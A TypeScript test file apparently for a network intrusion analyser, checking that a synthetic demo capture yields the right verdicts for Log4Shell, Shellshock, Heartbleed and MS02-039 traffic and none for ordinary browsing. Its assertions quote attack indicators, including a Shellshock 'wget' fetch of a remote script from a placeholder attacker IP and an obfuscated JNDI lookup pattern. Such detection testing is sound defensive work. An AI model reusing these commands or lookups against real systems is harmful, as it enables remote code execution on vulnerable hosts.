/**
 * `crashtest demo`: the capture it builds, analysed by the same service as `crashtest analyze`,
 * gives each attack its verdict and the ordinary traffic none; the file is a pcap tshark reads;
 * the command itself prints the verdicts.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { analyzeCaptures, buildDemoCapture, DEMO_CALLBACK_PORT, DEMO_HOSTS, DEMO_LDAP_PORT } from '../../src/daemon/index.ts';
import { schemaErrors } from '../alert/schema-validator.ts';
import { repoRoot } from './fixtures.ts';

interface Evidence {
  kind: string;
  dest_ip?: string;
  dest_port?: number;
  command?: string;
  expression?: string;
}

interface Event {
  event_type: string;
  level?: string;
  profile?: string;
  vulnerability?: string;
  src_ip?: string;
  dest_ip?: string;
  dest_port?: number;
  evidence?: Evidence[];
  senders?: Array<{ ip: string }>;
}

const PCAP_RECORD_HEADER_BYTES = 16;
const PCAP_FILE_HEADER_BYTES = 24;

function hasTshark(): boolean {
  return spawnSync('tshark', ['--version'], { stdio: 'ignore' }).status === 0;
}

/** frames in a little-endian microsecond pcap, counted by walking its record headers */
function recordCount(file: Buffer): number {
  let count = 0;
  for (let offset = PCAP_FILE_HEADER_BYTES; offset < file.length; offset += PCAP_RECORD_HEADER_BYTES + file.readUInt32LE(offset + 8)) count++;
  return count;
}

describe('crashtest demo', () => {
  const dir = mkdtempSync(join(tmpdir(), 'crashtest-demo-test-'));
  const file = join(dir, 'demo.pcap');
  const events: Event[] = [];
  const verdicts = (filter: (event: Event) => boolean): Event[] => events.filter((event) => event.event_type === 'verdict' && filter(event));
  const connectsTo = (event: Event, ip: string, port: number): boolean => event.evidence!.some((item) => item.kind === 'connect' && item.dest_ip === ip && item.dest_port === port);

  before(async () => {
    writeFileSync(file, buildDemoCapture());
    await analyzeCaptures([file], { onEvent: (event) => events.push(event as unknown as Event) });
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('every event validates against the published schema', () => {
    assert.deepEqual(events.map((event) => schemaErrors('event.schema.json', JSON.parse(JSON.stringify(event)))).filter((errors) => errors !== ''), []);
  });

  it('is the same pcap on every build', () => {
    assert.deepEqual(buildDemoCapture(), buildDemoCapture());
  });

  it('Log4Shell, plain and obfuscated, compromises the Log4j 2.14 dummy: it looks up LDAP at the attacker server', () => {
    const log4shell = verdicts((event) => event.dest_port === 8080);
    const senders = [DEMO_HOSTS.log4shellSender, DEMO_HOSTS.log4shellObfuscatedSender, DEMO_HOSTS.log4shellCopySender];
    assert.deepEqual([...new Set(log4shell.map((event) => event.src_ip))].sort(), [...senders].sort());
    for (const event of log4shell) {
      assert.equal(event.level, 'compromised', `${event.src_ip} on ${event.profile}`);
      assert.equal(event.profile, 'linux-tomcat-log4j-2.14');
      assert.ok(connectsTo(event, DEMO_HOSTS.attackerServer, DEMO_LDAP_PORT), JSON.stringify(event.evidence));
    }
    const obfuscated = log4shell.find((event) => event.src_ip === DEMO_HOSTS.log4shellObfuscatedSender)!;
    assert.match(obfuscated.evidence!.find((item) => item.kind === 'lookup')!.expression!, /\$\{lower:j\}ndi/);
    // the copy from another host is deduplicated: one replay, both senders named
    const plain = log4shell.find((event) => event.src_ip === DEMO_HOSTS.log4shellSender)!;
    assert.deepEqual(plain.senders!.map((sender) => sender.ip).sort(), [DEMO_HOSTS.log4shellSender, DEMO_HOSTS.log4shellCopySender].sort());
  });

  it('Shellshock compromises the Apache bash CGI dummy, which runs the wget', () => {
    const shellshock = verdicts((event) => event.src_ip === DEMO_HOSTS.shellshockSender);
    assert.equal(shellshock.length, 1);
    const [event] = shellshock;
    assert.equal(event!.level, 'compromised');
    assert.equal(event!.profile, 'linux-apache-bash-cgi');
    assert.equal(event!.vulnerability, 'CVE-2014-6271');
    assert.ok(event!.evidence!.some((item) => item.kind === 'exec' && /wget http:\/\/198\.51\.100\.10\/x\.sh/.test(item.command ?? '')), JSON.stringify(event!.evidence));
    assert.ok(connectsTo(event!, DEMO_HOSTS.attackerServer, 80), JSON.stringify(event!.evidence));
  });

  it('the Heartbleed probe exploits OpenSSL 1.0.1f and nothing else', () => {
    const heartbleed = verdicts((event) => event.src_ip === DEMO_HOSTS.heartbleedSender);
    assert.deepEqual(heartbleed.map((event) => [event.level, event.profile, event.vulnerability]), [['exploited', 'linux-openssl-1.0.1f', 'CVE-2014-0160']]);
  });

  it('the MS02-039 overflow compromises every unpatched SQL Server 2000 dummy: its stub connects back to the sender', () => {
    const overflow = verdicts((event) => event.src_ip === DEMO_HOSTS.sqlSender);
    assert.deepEqual(overflow.map((event) => event.profile).sort(), ['win-2000-sp4-msde2000-sp2', 'win-2000-sp4-sql2000-sp2', 'win-xp-sp1-msde2000-sp2']);
    for (const event of overflow) {
      assert.equal(event.level, 'compromised');
      assert.equal(event.vulnerability, 'MS02-039');
      assert.ok(connectsTo(event, DEMO_HOSTS.sqlSender, DEMO_CALLBACK_PORT), JSON.stringify(event.evidence));
    }
  });

  it('the ordinary browsing and the DNS lookup get no verdict, and no real host is called infected', () => {
    const workstations: readonly string[] = DEMO_HOSTS.workstations;
    assert.deepEqual(verdicts((event) => workstations.includes(event.src_ip!) || event.dest_ip === DEMO_HOSTS.resolver), []);
    assert.deepEqual(events.filter((event) => event.event_type === 'host_compromise'), []);
    assert.equal(verdicts(() => true).length, 3 + 1 + 1 + 3);
  });

  it('is a pcap tshark reads, whose only complaint is the Heartbleed probe', { skip: hasTshark() ? false : 'tshark is not installed' }, () => {
    const frames = spawnSync('tshark', ['-n', '-r', file, '-T', 'fields', '-e', 'frame.number'], { encoding: 'utf8' });
    assert.equal(frames.status, 0, frames.stderr);
    assert.equal(frames.stdout.trim().split('\n').length, recordCount(buildDemoCapture()));
    // expert severity warning (0x00600000) and above, and anything malformed
    const complaints = spawnSync('tshark', ['-n', '-r', file, '-Y', '_ws.malformed or _ws.expert.severity >= 0x00600000', '-T', 'fields', '-e', 'ip.src', '-e', 'tls.record.content_type'], { encoding: 'utf8' });
    assert.equal(complaints.status, 0, complaints.stderr);
    assert.deepEqual(complaints.stdout.trim().split('\n'), [`${DEMO_HOSTS.heartbleedSender}\t24`]);
  });

  it('`crashtest demo --write FILE` keeps the capture and prints the verdicts', () => {
    const kept = join(dir, 'kept.pcap');
    const run = spawnSync(process.execPath, [join(repoRoot, 'bin', 'crashtest.js'), 'demo', '--write', kept], { encoding: 'utf8', cwd: repoRoot });
    assert.equal(run.status, 0, run.stderr);
    assert.ok(existsSync(kept));
    assert.match(run.stdout, /^COMPROMISED +198\.51\.100\.31:\d+ → 10\.1\.0\.30:80 +on linux-apache-bash-cgi CVE-2014-6271$/m);
    assert.match(run.stdout, /^EXPLOITED +203\.0\.113\.99:\d+ → 10\.1\.0\.40:443 +on linux-openssl-1\.0\.1f CVE-2014-0160$/m);
    assert.equal(run.stdout.match(/^COMPROMISED /gm)?.length, 7);
  });
});
